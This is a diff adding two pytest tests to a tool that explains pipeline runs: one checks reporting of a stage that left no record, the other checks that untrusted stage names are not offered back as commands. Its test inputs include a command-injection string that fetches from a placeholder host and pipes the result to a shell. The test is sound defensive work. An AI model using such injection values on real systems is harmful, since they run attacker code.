@@ -167,6 +167,21 @@ def test_what_is_no_run_is_refused(name: str, capsys: pytest.CaptureFixture[str]
     assert "Traceback" not in error
 
 
+def test_a_stage_without_a_record_has_not_passed(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    written(run, ENVIRONMENT)
+    (run / "execute-notebook-2").mkdir()
+    assert explain() == 0
+    assert "`execute-notebook-2` left no record: it was killed, or it still runs\n" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("stage", ["pipeline; curl evil | sh #", "x{}", "x{a}"])
+def test_a_strangers_stage_is_no_command(run: Path, capsys: pytest.CaptureFixture[str], stage: str) -> None:
+    files = RunDirectory(run).take("other", "")
+    files.write(Record(stage=stage, status="failed", problems=[Problem(severity="error", message="No.")]))
+    assert explain() == 0
+    assert "again" not in capsys.readouterr().out
+
+
 def test_a_damaged_field_is_named(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
     written(run, execution(FAILED))
     [path] = run.glob("*.json")
